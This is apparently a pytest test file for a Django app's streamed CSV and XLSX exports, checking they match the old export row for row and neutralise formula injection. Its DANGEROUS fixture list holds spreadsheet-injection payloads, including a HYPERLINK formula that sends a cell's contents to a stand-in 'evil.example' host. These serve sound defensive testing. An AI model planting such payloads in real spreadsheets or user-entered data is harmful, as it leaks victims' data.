"""The streamed CSV and write-only XLSX downloads: the same rows as before, and formula-safe."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import AnonymousUser
from django.db import transaction
from django.test import RequestFactory
from django.utils import translation
from django_tables2 import RequestConfig

from agenda import exports
from agenda.models import Action, Agenda
from agenda.tables import ActionTable, AnnexExport

from .test_table import SLUG, URL, csv_rows, response_body

pytestmark = pytest.mark.django_db


@pytest.fixture(scope="module")
def demo_once(django_db_setup, django_db_blocker):
    from common.demo import load_all

    with django_db_blocker.unblock(), transaction.atomic():
        load_all()
        yield
        transaction.set_rollback(True)


@pytest.fixture
def demo(demo_once, db):
    """Each test runs in a savepoint on top of the module's demo data."""


DANGEROUS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"klik")',
    "+31 6 1234",
    "-2+3",
    "@SUM(1+1)",
    "\tgetabd",
    "\rregel",
]


def old_export_rows(query: dict) -> list[list[str]]:
    """The CSV as the table export wrote it before streaming (django-tables2 and tablib)."""
    agenda = Agenda.objects.get(slug=SLUG)
    request = RequestFactory().get(URL, query)
    request.user = AnonymousUser()
    actions = ActionTable.prepare(Action.objects.in_agenda(agenda).visible_to(request.user))
    table = ActionTable(actions, top_level_label=agenda.top_level_label)
    RequestConfig(request, paginate=False).configure(table)
    if not any(column.is_ordered for column in table.columns):
        table.order_by = table._meta.order_by
    with translation.override("nl"):
        data = AnnexExport("csv", table).export()
    return list(csv.reader(io.StringIO(data.lstrip("\ufeff"))))


@pytest.mark.parametrize("query", [{}, {"sort": "-leads"}, {"sort": "status"}])
def test_streamed_csv_matches_the_old_export_row_for_row(client, demo, query):
    response = client.get(URL, {**query, "_export": "csv"})
    assert response.streaming
    new = csv_rows(response)
    old = old_export_rows(query)
    assert len(new) == len(old) > 50
    assert any(row[-1] for row in new[1:]), "the demo has funding amounts to compare"
    for number, (new_row, old_row) in enumerate(zip(new, old, strict=True)):
        assert new_row == old_row, f"row {number}"


@pytest.fixture
def planted(demo):
    """An action whose texts start formulas, as a partner could type them."""
    action = Action.objects.in_agenda(Agenda.objects.get(slug=SLUG)).first()
    action.text = DANGEROUS[0]
    action.lead_text = DANGEROUS[1]
    action.financing_text = DANGEROUS[2]
    action.target_group_text = DANGEROUS[3]
    action.save()
    return action


def test_csv_cells_that_start_a_formula_get_a_leading_apostrophe(client, planted):
    rows = csv_rows(client.get(URL, {"_export": "csv", "q": "HYPERLINK"}))
    header, row = rows[0], rows[1]
    assert len(rows) == 2
    assert row[header.index("Actie")] == "'" + DANGEROUS[0]
    assert row[header.index("Trekker(s)")] == "'" + DANGEROUS[1]
    assert row[header.index("Financiering")] == "'" + DANGEROUS[2]
    assert row[header.index("Voor wie")] == "'" + DANGEROUS[3]
    assert all(not cell.startswith(exports.FORMULA_STARTS) for r in rows for cell in r)


def test_xlsx_text_cells_are_strings_never_formulas(client, planted):
    response = client.get(URL, {"_export": "xlsx", "q": "HYPERLINK"})
    sheet = openpyxl.load_workbook(io.BytesIO(response_body(response))).active
    rows = list(sheet.iter_rows())
    assert len(rows) == 2
    for cell in rows[1]:
        assert cell.data_type in ("s", "n"), (cell.coordinate, cell.data_type, cell.value)
    texts = [cell.value for cell in rows[1]]
    assert "'" + DANGEROUS[0] in texts
    assert not any(isinstance(v, str) and v.startswith("=") for v in texts)


@pytest.mark.parametrize("text", DANGEROUS)
def test_every_formula_start_is_neutralised_and_stays_readable(text):
    safe = exports.neutralise(text)
    assert safe == "'" + text
    assert exports.neutralise("gewone tekst") == "gewone tekst"
    assert exports.neutralise(3) == 3


def test_an_error_code_text_stays_a_string_in_the_xlsx(client, demo):
    action = Action.objects.in_agenda(Agenda.objects.get(slug=SLUG)).first()
    action.text = "#N/A"
    action.save()
    response = client.get(URL, {"_export": "xlsx", "q": "#N/A"})
    sheet = openpyxl.load_workbook(io.BytesIO(response_body(response))).active
    cells = {cell.value: cell.data_type for cell in list(sheet.iter_rows())[1]}
    assert cells["#N/A"] == "s"


def test_characters_xlsx_cannot_hold_are_left_out_and_what_remains_stays_a_text(client, demo):
    actions = Action.objects.in_agenda(Agenda.objects.get(slug=SLUG))
    first, second = actions[:2]
    first.text = "Begeleiding\x02 naar werk"
    first.save()
    second.text = "\x01=1+1"  # a formula once the control character is gone
    second.save()
    response = client.get(URL, {"_export": "xlsx", "q": "1+1"})
    cells = {
        c.value: c.data_type
        for c in list(
            openpyxl.load_workbook(io.BytesIO(response_body(response))).active.iter_rows()
        )[1]
    }
    assert cells["=1+1"] == "s"
    response = client.get(URL, {"_export": "xlsx", "q": "naar werk"})
    texts = [
        c.value
        for row in openpyxl.load_workbook(io.BytesIO(response_body(response))).active.iter_rows()
        for c in row
    ]
    assert "Begeleiding naar werk" in texts
